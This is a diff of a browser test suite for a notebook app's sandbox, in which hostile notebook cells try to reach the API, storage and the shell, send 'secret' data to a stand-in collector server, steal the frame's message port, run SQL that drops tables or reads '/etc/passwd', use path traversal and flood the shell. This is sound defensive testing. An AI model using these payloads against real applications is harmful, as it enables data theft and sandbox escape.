@@ -1,30 +1,63 @@
-import type { Browser, Page } from "playwright";
-import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { readdirSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import type { Browser, BrowserContext, Page } from "playwright";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { root } from "#server/setup/install.mjs";
 import {
   type App,
+  type Complaints,
+  cell,
   cellText,
   createNotebook,
   notebookFrame,
+  notebookOf,
   openPage,
   startApp,
   startBrowser,
+  storedNotebook,
   tokenOf,
 } from "./app.ts";
 
 /**
- * A stranger's notebook tries everything a page could try. Each attempt is a cell that displays either
- * "REFUSED: why" or "SUCCEEDED: what"; nothing may succeed, and the shell must go on working.
+ * A stranger's notebook tries everything a page could try. Each attempt is a cell that shows either "REFUSED: why"
+ * or "SUCCEEDED: what"; nothing may succeed, and the shell must go on working. A server beside the app stands for
+ * the stranger's own: no request may ever reach it, whatever the browser reports.
  */
 let app: App;
 let browser: Browser;
+let context: BrowserContext;
+let page: Page;
+let complaints: Complaints;
+let collector: Server;
+let collected: string[];
+let elsewhere: string;
 
 beforeAll(async () => {
   app = await startApp();
   browser = await startBrowser();
+  collector = createServer((request, response) => {
+    collected.push(`${request.method} ${request.url}`);
+    response.end("thank you");
+  });
+  await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
+  elsewhere = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
 });
 afterAll(async () => {
   await browser?.close();
+  collector?.close();
   await app?.stop();
+});
+beforeEach(async () => {
+  collected = [];
+  context = await browser.newContext();
+  ({ page, complaints } = await openPage(context, app, "#/"));
+});
+afterEach(async () => {
+  await context.close();
+  expect(complaints.foreignRequests).toEqual([]);
+  expect(collected).toEqual([]);
 });
 
 const API_PATHS = [
@@ -33,6 +66,7 @@ const API_PATHS = [
   "/api/lake",
   "/api/notebooks",
   "/api/notebooks/tour",
+  "/api/notebooks/trash",
   "/api/runs",
   "/api/jobs",
   "/api/jobs/events",
@@ -42,134 +76,333 @@ const API_PATHS = [
 
 /** Expressions that resolve to something when an attempt got through, and throw or reject when it did not. */
 function attempts(origin: string, token: string): Record<string, string> {
-  const load = (tag: string, attribute: string, address: string): string =>
-    `new Promise((resolve, reject) => { const element = document.createElement("${tag}"); element.${attribute} = "${address}"; element.onload = () => resolve("loaded"); element.onerror = () => reject(new Error("not loaded")); document.head.append(element); })`;
+  const load = (tag: string, set: Record<string, string>): string =>
+    `new Promise((resolve, reject) => { const element = document.createElement("${tag}"); Object.assign(element, ${JSON.stringify(set)}); element.onload = () => resolve("loaded"); element.onerror = () => reject(new Error("not loaded")); document.head.append(element); })`;
+  const worker = (text: string): string =>
+    `new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(text)}]))); worker.onmessage = ({ data }) => data.startsWith("SUCC") ? resolve(data) : reject(new Error(data)); worker.onerror = () => reject(new Error("no worker")); })`;
+  const nested = (markup: string): string =>
+    `new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data)); const frame = document.createElement("iframe"); frame.srcdoc = ${JSON.stringify(markup)}; document.body.append(frame); })`;
   const all: Record<string, string> = {
     "fetch without credentials": `fetch("${origin}/api/health", { credentials: "omit" }).then((r) => r.status)`,
     "fetch with credentials": `fetch("${origin}/api/health", { credentials: "include" }).then((r) => r.status)`,
     "fetch with a stolen token": `fetch("${origin}/api/health", { headers: { "x-walkforward-token": "${token}" } }).then((r) => r.status)`,
     "fetch in no-cors mode": `fetch("${origin}/api/lake", { mode: "no-cors" }).then((r) => r.type)`,
+    "fetch from elsewhere": `fetch("${elsewhere}/x", { mode: "no-cors" }).then((r) => r.type)`,
     XMLHttpRequest: `new Promise((resolve, reject) => { const request = new XMLHttpRequest(); request.open("GET", "${origin}/api/health"); request.onload = () => resolve(request.status); request.onerror = () => reject(new Error("no answer")); request.send(); })`,
     WebSocket: `new Promise((resolve, reject) => { const socket = new WebSocket("${origin.replace("http", "ws")}/api"); socket.onopen = () => resolve("open"); socket.onerror = () => reject(new Error("no socket")); })`,
     EventSource: `new Promise((resolve, reject) => { const source = new EventSource("${origin}/api/jobs/events"); source.onopen = () => resolve("open"); source.onerror = () => reject(new Error("no events")); })`,
-    beacon: `Promise.resolve(navigator.sendBeacon("https://collector.invalid/x", "secret")).then(() => new Promise((resolve, reject) => addEventListener("securitypolicyviolation", (e) => reject(new Error(e.violatedDirective)), { once: true })))`,
-    "parent document": `Promise.resolve(parent.document.title)`,
-    "top document": `Promise.resolve(top.document.body.innerHTML)`,
-    localStorage: `Promise.resolve(localStorage.length)`,
-    sessionStorage: `Promise.resolve(sessionStorage.length)`,
-    cookies: `Promise.resolve(document.cookie)`,
+    beacon: `new Promise((resolve, reject) => { addEventListener("securitypolicyviolation", (e) => reject(new Error(e.violatedDirective))); navigator.sendBeacon("${elsewhere}/beacon", "secret"); })`,
+    "a link's ping": `new Promise(() => { const a = document.createElement("a"); a.href = "#x"; a.ping = "${elsewhere}/ping"; document.body.append(a); a.click(); })`,
+    "a link to a new window": `new Promise(() => { const a = document.createElement("a"); a.href = "${elsewhere}/link"; a.target = "_blank"; document.body.append(a); a.click(); })`,
+    "a form": `new Promise(() => { const form = document.createElement("form"); form.action = "${elsewhere}/form"; document.body.append(form); form.submit(); })`,
+    "parent document": `parent.document.title`,
+    "top document": `top.document.body.innerHTML`,
+    "the parent's address": `((parent.location.hash = "#/data"), "moved")`,
+    localStorage: `localStorage.length`,
+    sessionStorage: `sessionStorage.length`,
+    cookies: `document.cookie`,
     indexedDB: `new Promise((resolve, reject) => { const open = indexedDB.open("x"); open.onsuccess = () => resolve("open"); open.onerror = () => reject(open.error); })`,
     caches: `caches.open("x").then(() => "open")`,
+    "private files": `navigator.storage.getDirectory().then(() => "open")`,
+    locks: `navigator.locks.request("walkforward", () => "held")`,
     "service worker": `navigator.serviceWorker.register("${origin}/assets/x.js").then(() => "registered")`,
-    "navigate the top window": `(() => { top.location.href = "https://elsewhere.invalid/"; return Promise.resolve("navigated"); })()`,
-    "pop-up": `Promise.resolve(window.open("https://elsewhere.invalid/") ?? Promise.reject(new Error("no window")))`,
+    "shared worker": `new Promise((resolve, reject) => { const shared = new SharedWorker("${origin}/assets/x.js"); shared.onerror = () => reject(new Error("no worker")); shared.port.onmessage = resolve; })`,
+    "navigate the top window": `((top.location.href = "${elsewhere}/top"), "navigated")`,
+    "pop-up": `(window.open("${elsewhere}/") ?? Promise.reject(new Error("no window")))`,
     "worker from the origin": `new Promise((resolve, reject) => { const worker = new Worker("${origin}/assets/x.js"); worker.onmessage = () => resolve("ran"); worker.onerror = () => reject(new Error("no worker")); })`,
-    "fetch inside a worker of its own": `new Promise((resolve, reject) => { const text = 'fetch("${origin}/api/health").then((r) => postMessage("SUCCEEDED " + r.status), (e) => postMessage("no: " + e))'; const worker = new Worker(URL.createObjectURL(new Blob([text]))); worker.onmessage = (e) => e.data.startsWith("SUCC") ? resolve(e.data) : reject(new Error(e.data)); })`,
-    "importScripts of the API inside a worker": `new Promise((resolve, reject) => { const text = 'try { importScripts("${origin}/api/lake"); postMessage("SUCCEEDED") } catch (e) { postMessage("no: " + e) }'; const worker = new Worker(URL.createObjectURL(new Blob([text]))); worker.onmessage = (e) => e.data.startsWith("SUCC") ? resolve(e.data) : reject(new Error(e.data)); })`,
-    "image beacon to another host": load("img", "src", "https://collector.invalid/pixel.png"),
-    "style sheet from another host": `new Promise((resolve, reject) => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "https://collector.invalid/x.css"; link.onload = () => resolve("loaded"); link.onerror = () => reject(new Error("not loaded")); document.head.append(link); })`,
-    "script from another host": load("script", "src", "https://collector.invalid/x.js"),
-    "import from another host": `import(["https:", "", "collector.invalid", "x.js"].join("/")).then(() => "imported")`,
-    "frame of the shell": `new Promise((resolve, reject) => { const frame = document.createElement("iframe"); frame.src = "${origin}/"; frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML || Promise.reject(new Error("empty"))) } catch (e) { reject(e) } }; document.body.append(frame); })`,
-    RTCPeerConnection: `Promise.resolve(new RTCPeerConnection())`,
+    "fetch inside a worker of its own": worker(
+      `fetch("${origin}/api/health").then((r) => postMessage("SUCCEEDED " + r.status), (e) => postMessage("no: " + e))`,
+    ),
+    "image beacon to another host": load("img", { src: `${elsewhere}/pixel.png` }),
+    "sound from another host": `new Audio("${elsewhere}/sound").play()`,
+    "style sheet from another host": load("link", { rel: "stylesheet", href: `${elsewhere}/x.css` }),
+    "style sheet's import": `new Promise(() => { const style = document.createElement("style"); style.textContent = '@import "${elsewhere}/import.css"; body { background: url(${elsewhere}/background.png) }'; document.head.append(style); })`,
+    "font from another host": `new FontFace("x", "url(${elsewhere}/font)").load().then(() => "loaded")`,
+    "prefetch from another host": load("link", { rel: "prefetch", href: `${elsewhere}/prefetch` }),
+    "script from another host": load("script", { src: `${elsewhere}/x.js` }),
+    "script as data": load("script", { src: "data:text/javascript,0" }),
+    "import from another host": `import("${elsewhere}/x.js").then(() => "imported")`,
+    "frame of the shell": `new Promise((resolve, reject) => { const frame = document.createElement("iframe"); frame.src = "${origin}/"; frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML) } catch (e) { reject(e) } }; document.body.append(frame); })`,
+    "frame of another host": `new Promise(() => { const frame = document.createElement("iframe"); frame.src = "${elsewhere}/frame"; document.body.append(frame); })`,
+    "object of another host": load("object", { data: `${elsewhere}/object` }),
+    "the window of a blank frame": `(() => { const frame = document.createElement("iframe"); document.body.append(frame); return typeof frame.contentWindow.RTCPeerConnection; })()`,
+    "a blank frame's address": `new Promise(() => { const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.location = "${elsewhere}/blank"; })`,
+    "a handler in a nested frame": nested(
+      `<img src="x" onerror="parent.postMessage(typeof RTCPeerConnection, '*')">`,
+    ),
+    "a script in a nested frame": nested(
+      `<script>parent.postMessage(typeof RTCPeerConnection, "*")</script>`,
+    ),
+    "a nested frame that refreshes": nested(
+      `<meta http-equiv="refresh" content="0;url=${elsewhere}/refreshed">`,
+    ),
+    "a script of its own in a nested frame": `new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data)); const url = URL.createObjectURL(new Blob(["parent.postMessage(typeof RTCPeerConnection, '*')"], { type: "text/javascript" })); const frame = document.createElement("iframe"); frame.srcdoc = '<script src="' + url + '"></' + 'script>'; document.body.append(frame); })`,
+    "code in an address": `new Promise((resolve) => { addEventListener("message", ({ data }) => resolve(data)); const frame = document.createElement("iframe"); frame.src = "javascript:parent.postMessage('ran', '*')"; document.body.append(frame); })`,
+    RTCPeerConnection: `new RTCPeerConnection()`,
+    WebTransport: `new WebTransport("https://127.0.0.1:1/").ready`,
   };
   for (const path of API_PATHS) {
-    all[`script tag at ${path}`] = load("script", "src", `${origin}${path}`);
-    all[`import() of ${path}`] = `(0, eval)('import("${origin}${path}")').then(() => "imported")`;
+    all[`script tag at ${path}`] = load("script", { src: `${origin}${path}` });
+    all[`module script at ${path}`] = load("script", { src: `${origin}${path}`, type: "module" });
+    all[`style sheet at ${path}`] = load("link", { rel: "stylesheet", href: `${origin}${path}` });
+    all[`import() of ${path}`] = `import("${origin}${path}").then(() => "imported")`;
+    all[`importScripts of ${path} in a worker`] = worker(
+      `try { importScripts("${origin}${path}"); postMessage("SUCCEEDED") } catch (e) { postMessage("no: " + e) }`,
+    );
+    all[`import() of ${path} in a worker`] = worker(
+      `import("${origin}${path}").then(() => postMessage("SUCCEEDED"), (e) => postMessage("no: " + e))`,
+    );
   }
   return all;
 }
 
-function hostileNotebook(expressions: Record<string, string>): string {
-  const cells = Object.entries(expressions).map(
-    ([name, expression], i) =>
-      `  <script id="${i + 1}" type="module">\ndisplay(await (async () => { try { return ${JSON.stringify(name)} + " SUCCEEDED: " + (await ${expression}); } catch (error) { return ${JSON.stringify(name)} + " REFUSED: " + error; } })())\n  </script>`,
-  );
-  return `<!doctype html>\n<notebook>\n  <title>Hostile</title>\n${cells.join("\n")}\n</notebook>\n`;
+/** A cell that shows what an expression gives, going round what cells may name. */
+function evaluated(expression: string): string {
+  return `display(await globalThis.eval(${JSON.stringify(expression).replaceAll("</", "<\\/")}));`;
 }
 
-async function openTrusted(page: Page, name: string): Promise<void> {
+/** The same, saying how it went, and not waiting for ever. */
+function attempt(expression: string): string {
+  const code = `Promise.race([(async () => "SUCCEEDED: " + (await ${expression}))(), new Promise((resolve) => setTimeout(resolve, 3000, "REFUSED: no answer"))]).catch((error) => "REFUSED: " + error)`;
+  return evaluated(code);
+}
+
+async function openTrusted(title: string, cells: Parameters<typeof notebookOf>[1]): Promise<string> {
+  const id = await createNotebook(page, app, title, notebookOf(title, cells));
+  await page.goto(`${app.url}/#/notebook/${id}`);
   await page.getByRole("button", { name: "Run this notebook" }).click();
-  await notebookFrame(page).locator("[data-cell-id]").first().waitFor();
-  await expect.poll(() => page.title()).toContain(name);
+  await cell(page, 1).waitFor();
+  return id;
+}
+
+/** What a person would do next: another page, another notebook, and it runs. */
+async function expectShellWorks(): Promise<void> {
+  await page.getByRole("link", { name: "Data" }).first().click();
+  await page.getByRole("heading", { name: "Data" }).waitFor();
+  await openTrusted("Honest", [["ts", `display("still " + 6 * 7);`]]);
+  await expect.poll(() => cellText(page, 1)).toBe("still 42");
 }
 
 describe("a stranger's notebook", () => {
   test("is shown and not run until the reader says so", async () => {
-    const context = await browser.newContext();
-    const { page } = await openPage(context, app);
-    const text = `<!doctype html>\n<notebook>\n  <title>Not yet</title>\n  <script id="1" type="module">\ndisplay("it ran " + 6 * 7)\n  </script>\n</notebook>\n`;
-    const id = await createNotebook(page, app, "Not yet", text);
+    const id = await createNotebook(
+      page,
+      app,
+      "Not yet",
+      notebookOf("Not yet", [["ts", `display("it ran " + 6 * 7);`]]),
+    );
     await page.goto(`${app.url}/#/notebook/${id}`);
     await page.getByRole("button", { name: "Run this notebook" }).waitFor();
-    await notebookFrame(page).locator('[data-cell-id="1"]').waitFor();
+    await cell(page, 1).waitFor();
     expect(await notebookFrame(page).getByText("it ran 42").count()).toBe(0);
     await page.getByRole("button", { name: "Run this notebook" }).click();
     await notebookFrame(page).getByText("it ran 42").waitFor();
-    await context.close();
   });
 
   test("reaches neither the API, nor the network, nor storage, nor the shell", async () => {
-    const context = await browser.newContext();
-    const { page, complaints } = await openPage(context, app);
-    const tries = attempts(app.url, await tokenOf(page));
-    const id = await createNotebook(page, app, "Hostile", hostileNotebook(tries));
-    await page.goto(`${app.url}/#/notebook/${id}`);
-    await openTrusted(page, "Hostile");
-    const names = Object.keys(tries);
-    for (const [i, name] of names.entries()) {
-      await expect
-        .poll(() => cellText(page, i + 1), { timeout: 30_000, message: name })
-        .toMatch(/REFUSED|SUCCEEDED|waits|failed|refused/i);
-      expect(await cellText(page, i + 1), name).not.toContain("SUCCEEDED:");
+    const tries = Object.entries(attempts(app.url, await tokenOf(page)));
+    await openTrusted(
+      "Hostile",
+      tries.map(([, expression]) => ["ts", attempt(expression)]),
+    );
+    const outcomes: Record<string, string> = {};
+    for (const [i, [name]] of tries.entries()) {
+      await expect.poll(() => cellText(page, i + 1), { message: name }).toMatch(/REFUSED|SUCCEEDED/);
+      outcomes[name] = await cellText(page, i + 1);
     }
-    expect(complaints.foreignRequests).toEqual([]);
-    expect(page.url()).toContain(app.url);
-    await context.close();
-  }, 240_000);
+    expect(Object.entries(outcomes).filter(([, outcome]) => !outcome.startsWith("REFUSED:"))).toEqual([]);
+    expect(page.url()).toContain(`${app.url}/#/notebook/`);
+    await expectShellWorks();
+  }, 400_000);
+
+  test("finds in our own files no code that acts for it in a nested frame's window", async () => {
+    const files = readdirSync(join(root, "build/workbench/assets")).filter((name) => name.endsWith(".js"));
+    expect(files.length).toBeGreaterThan(3);
+    // Talks to each file as its own page would: a worker's start, comlink's way to construct a function, a port.
+    const talk = `(async (url) => {
+      const frame = document.createElement("iframe");
+      frame.srcdoc = '<script type="module" src="' + url + '"></' + 'script>';
+      const heard = [];
+      const listen = ({ source, data }) => { if (source === frame.contentWindow) heard.push(JSON.stringify(data)); };
+      addEventListener("message", listen);
+      document.body.append(frame);
+      await new Promise((resolve) => { frame.onload = resolve; });
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      const { port1, port2 } = new MessageChannel();
+      port1.onmessage = ({ data }) => heard.push("port " + JSON.stringify(data));
+      const construct = { id: "1", type: "CONSTRUCT", path: ["constructor", "constructor"], argumentList: [{ type: "RAW", value: "return 1" }] };
+      frame.contentWindow.postMessage(construct, "*");
+      frame.contentWindow.postMessage({ port: port2, allowModules: true }, "*", [port2]);
+      port1.postMessage(construct);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      removeEventListener("message", listen);
+      frame.remove();
+      return heard.filter((words) => !words.includes("walkforward:frame-hello"));
+    })`;
+    const cells = files.map((file): ["ts", string] => [
+      "ts",
+      evaluated(`${talk}("${app.url}/assets/${file}").then(JSON.stringify)`),
+    ]);
+    await openTrusted("Borrowed", cells);
+    for (const [i, file] of files.entries()) {
+      await expect.poll(() => cellText(page, i + 1), { message: file }).toMatch(/^\[/);
+      expect(await cellText(page, i + 1), file).not.toMatch(/HANDLER|"ready":true/);
+    }
+  }, 400_000);
 
   test("cannot forge messages of the frame or get a second port", async () => {
-    const context = await browser.newContext();
-    const { page } = await openPage(context, app);
-    const forge = `<!doctype html>\n<notebook>\n  <title>Forger</title>\n  <script id="1" type="module">\nlet ports = 0;\naddEventListener("message", (event) => { ports += event.ports.length; });\nfor (const message of ["walkforward:frame-hello", { type: "walkforward:frame-hello" }, { type: "source", source: "owned", title: "owned" }, { type: "request", id: 1, request: { method: "saveRun", params: {} } }]) parent.postMessage(message, "*");\nawait new Promise((resolve) => setTimeout(resolve, 300));\ndisplay("ports received: " + ports);\n  </script>\n</notebook>\n`;
-    const id = await createNotebook(page, app, "Forger", forge);
-    await page.goto(`${app.url}/#/notebook/${id}`);
-    await openTrusted(page, "Forger");
-    await notebookFrame(page).getByText("ports received: 0").waitFor();
-    const stored = await page.evaluate(
-      async ([address, token]) =>
-        (await fetch(address, { headers: { "x-walkforward-token": token } })).json(),
-      [`${app.url}/api/notebooks/${id}`, await tokenOf(page)],
-    );
-    expect(stored.text).toBe(forge);
-    await context.close();
+    const id = await openTrusted("Forger", [
+      [
+        "ts",
+        evaluated(`(async () => {
+          let ports = 0;
+          addEventListener("message", (event) => { ports += event.ports.length; });
+          for (const message of [
+            "walkforward:frame-hello",
+            { type: "walkforward:frame-hello" },
+            { type: "source", source: "owned", title: "owned" },
+            { type: "request", id: 1, request: { method: "saveRun", params: {} } },
+          ]) { parent.postMessage(message, "*"); top.postMessage(message, "*"); }
+          await new Promise((resolve) => setTimeout(resolve, 300));
+          return "ports received: " + ports;
+        })()`),
+      ],
+    ]);
+    await expect.poll(() => cellText(page, 1)).toBe("ports received: 0");
+    expect((await storedNotebook(page, app, id)).text).toContain("ports received");
+    await expectShellWorks();
+  });
+
+  test("that takes the frame's own port gets no further than its own notebook", async () => {
+    const other = await createNotebook(page, app, "Other", notebookOf("Other", [["md", "# Not yours"]]));
+    const otherText = (await storedNotebook(page, app, other)).text;
+    const steal = `(async () => {
+      Array.prototype.map = function () { return []; };
+      const send = MessagePort.prototype.postMessage;
+      const ports = new Set();
+      MessagePort.prototype.postMessage = function (...given) { if (["pong", "status", "request"].includes(given[0]?.type)) ports.add(this); return send.apply(this, given); };
+      while (ports.size === 0) await new Promise((resolve) => setTimeout(resolve, 100));
+      const [port] = ports;
+      const answers = [];
+      const hear = (event) => { if (event.data.type === "reply" && event.data.id >= 9000) answers.push(event.data); };
+      port.addEventListener("message", hear);
+      const zeros = "0".repeat(64);
+      const asks = [
+        { method: "sql", params: { sql: "DROP TABLE lake.series" } },
+        { method: "sql", params: { sql: "SELECT * FROM read_text('/etc/passwd')" } },
+        { method: "candles", params: { seriesId: "../../secret" } },
+        { method: "saveRun", params: { evaluation: { hash: zeros } } },
+        { method: "saveRun", params: { evaluation: { hash: zeros, trades: [] }, notebook: "${other}" } },
+        { method: "fetch", params: { url: "/api/notebooks" } },
+        { method: "saveNotebook", params: { id: "${other}", text: "owned" } },
+      ];
+      asks.forEach((request, i) => send.call(port, { type: "request", id: 9000 + i, request }));
+      for (const message of [
+        { type: "source", source: "not a notebook", title: "owned", id: "${other}" },
+        { type: "source", source: ${JSON.stringify(notebookOf("owned", [["md", "written by the thief"]])).replaceAll("</", "<\\/")}, title: "owned", id: "${other}", notebook: "${other}" },
+        { type: "shortcut", key: "deploy" },
+        { type: "open", source: "owned" },
+        { type: "status", phase: "idle", cells: -1, failed: "none" },
+        { __proto__: { type: "ready" } },
+      ]) send.call(port, message);
+      for (let i = 0; i < 300; i++) send.call(port, { type: "shortcut", key: "open" });
+      while (answers.length < 5) await new Promise((resolve) => setTimeout(resolve, 100));
+      return answers.length + " answers, of them good: " + answers.filter(({ ok }) => ok).length;
+    })()`;
+    const id = await openTrusted("Thief", [["ts", evaluated(steal)]]);
+    await expect.poll(() => notebookFrame(page).locator("body").innerText()).toContain("5 answers");
+    expect(await notebookFrame(page).locator("body").innerText()).toContain("of them good: 0");
+    // Its own text it may write: that is what the port is for. What is no notebook is not even stored.
+    await expect
+      .poll(async () => (await storedNotebook(page, app, id)).text)
+      .toContain("written by the thief");
+    expect((await storedNotebook(page, app, other)).text).toBe(otherText);
+    const headers = { "x-walkforward-token": await tokenOf(page) };
+    expect(await (await fetch(`${app.url}/api/runs`, { headers })).json()).toEqual([]);
+    // A shortcut counts only where the keyboard is.
+    await page.locator("body").click({ position: { x: 2, y: 2 } });
+    expect(page.url()).toContain("#/notebook/");
+    await expectShellWorks();
+  });
+
+  test("may offer a file or a text three times against a person's no, and then no more", async () => {
+    const ask = `(async () => {
+      const send = MessagePort.prototype.postMessage;
+      let port;
+      MessagePort.prototype.postMessage = function (...given) { if (["pong", "status"].includes(given[0]?.type)) port = this; return send.apply(this, given); };
+      while (port === undefined) await new Promise((resolve) => setTimeout(resolve, 100));
+      const answers = [];
+      for (let id = 9000; id < 9005; id++) {
+        const answered = new Promise((resolve) => port.addEventListener("message", ({ data }) => { if (data.type === "reply" && data.id === id) resolve(data.ok ? data.value : data.error.code); }));
+        send.call(port, { type: "request", id, request: { method: "download", params: { filename: "../../evil.exe", mediaType: "text/html", bytes: new Uint8Array(3) } } });
+        answers.push(await answered);
+      }
+      return JSON.stringify(answers);
+    })()`;
+    await openTrusted("Pedlar", [["ts", evaluated(ask)]]);
+    for (let i = 0; i < 3; i++) {
+      await page.getByText("evil.exe").waitFor();
+      expect(await page.getByRole("dialog").innerText()).not.toContain("/");
+      await page.getByRole("button", { name: "Not now" }).click();
+    }
+    await expect
+      .poll(() => cellText(page, 1))
+      .toBe('[false,false,false,"consent.refused","consent.refused"]');
+    expect(await page.getByRole("dialog").count()).toBe(0);
+  });
+
+  const floods: Record<string, string> = {
+    "small messages": `for (;;) { for (let i = 0; i < 20000; i++) send.call(port, { type: "status" }); await new Promise((resolve) => setTimeout(resolve)); }`,
+    "large messages": `const source = "x".repeat(15_000_000); for (let i = 0; ; i++) { send.call(port, { type: "source", source: source + i, title: "big" }); await new Promise((resolve) => setTimeout(resolve, 5)); }`,
+  };
+  test.each(Object.entries(floods))("that floods the shell with %s leaves it working", async (_, flood) => {
+    const code = `(async () => {
+      const send = MessagePort.prototype.postMessage;
+      let port;
+      MessagePort.prototype.postMessage = function (...given) { if (["pong", "status"].includes(given[0]?.type)) port = this; return send.apply(this, given); };
+      while (port === undefined) await new Promise((resolve) => setTimeout(resolve, 100));
+      ${flood}
+    })()`;
+    await openTrusted("Flood", [["ts", evaluated(code)]]);
+    if (flood === floods["small messages"]) await page.getByText("so many messages").waitFor();
+    await expectShellWorks();
   });
 
   test("that never answers is stopped and shown again without running, and the shell works on", async () => {
-    const context = await browser.newContext();
-    const { page } = await openPage(context, app);
-    const loop = `<!doctype html>\n<notebook>\n  <title>Endless</title>\n  <script id="1" type="module">\nfor (;;) {}\n  </script>\n</notebook>\n`;
-    const id = await createNotebook(page, app, "Endless", loop);
-    await page.goto(`${app.url}/#/notebook/${id}`);
+    await createNotebook(page, app, "Endless", notebookOf("Endless", [["ts", "for (;;) {}"]]));
+    await page.goto(`${app.url}/#/notebook/endless`);
     await page.getByRole("button", { name: "Run this notebook" }).click();
     await page.getByText("does not answer").waitFor();
     await page.getByRole("button", { name: /^Stop/ }).click();
-    await notebookFrame(page).locator('[data-cell-id="1"]').waitFor();
-    await page.getByRole("link", { name: "Data" }).first().click();
-    await page.getByRole("heading", { name: "Data" }).waitFor();
-    await context.close();
+    await cell(page, 1).waitFor();
+    await expectShellWorks();
   });
 
-  test("that navigates its own frame away sends nothing anywhere", async () => {
-    const context = await browser.newContext();
-    const { page, complaints } = await openPage(context, app);
-    const leave = `<!doctype html>\n<notebook>\n  <title>Leaver</title>\n  <script id="1" type="module">\nlocation.href = "https://elsewhere.invalid/?secret=1";\n  </script>\n</notebook>\n`;
-    const id = await createNotebook(page, app, "Leaver", leave);
-    await page.goto(`${app.url}/#/notebook/${id}`);
+  test("that navigates its own frame away sends nothing anywhere, and can be shown again", async () => {
+    await createNotebook(
+      page,
+      app,
+      "Leaver",
+      notebookOf("Leaver", [["ts", evaluated(`location.href = "${elsewhere}/?secret=1"`)]]),
+    );
+    await page.goto(`${app.url}/#/notebook/leaver`);
     await page.getByRole("button", { name: "Run this notebook" }).click();
-    await page.getByRole("link", { name: "Data" }).first().click();
-    await page.getByRole("heading", { name: "Data" }).waitFor();
-    expect(complaints.foreignRequests).toEqual([]);
-    await context.close();
+    await page.getByText("does not answer").waitFor();
+    await page.getByRole("button", { name: /^Stop/ }).click();
+    await cell(page, 1).waitFor();
+    await expectShellWorks();
+  });
+
+  test("that sends its frame to the API or the shell's page gets neither", async () => {
+    for (const path of ["/api/lake", "/", "/frame.html"]) {
+      await openTrusted(`Turncoat ${path}`, [["ts", evaluated(`location.href = "${app.url}${path}"`)]]);
+      await page.getByText("does not answer").waitFor();
+      const shown = await notebookFrame(page)
+        .locator("body")
+        .innerText()
+        .catch(() => "");
+      expect(shown).not.toMatch(/series|Notebooks|symbol/);
+    }
+    await expectShellWorks();
   });
 });
